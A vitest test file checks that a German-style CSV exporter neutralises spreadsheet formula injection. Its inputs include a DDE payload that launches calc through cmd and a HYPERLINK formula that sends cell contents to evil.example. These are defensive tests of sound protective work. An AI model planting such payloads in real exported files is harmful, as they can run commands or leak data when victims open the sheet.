import { parse } from "csv-parse/sync"
import { expect, it } from "vitest"
import { csvOf } from "./csv.ts"

const one = (value: string | number | null) =>
  csvOf([{ heading: "Wert", cell: (cell: string | number | null) => cell }], [value])
const read = (text: string) => parse(text, { bom: true, delimiter: ";" })[1]?.[0]

it.each([
  "=1+1",
  "+49 40 123",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "＝1+1",
  '=HYPERLINK("https://evil.example?"&A1)',
])("%j stays text in a spreadsheet", (text) => {
  expect(read(one(text))).toBe(`'${text}`)
})

it.each(["plain", 'with "quotes"', "a;b,c", "two\nlines", "a=b", "5-3", "ä€", ""])(
  "%j is what it was",
  (text) => {
    expect(read(one(text))).toBe(text)
  },
)

it("writes figures as they are read in German, minus included, and nothing for null", () => {
  expect(one(-12.5)).toBe('\ufeff"Wert"\r\n-12,5\r\n')
  expect(one(null)).toBe('\ufeff"Wert"\r\n\r\n')
})
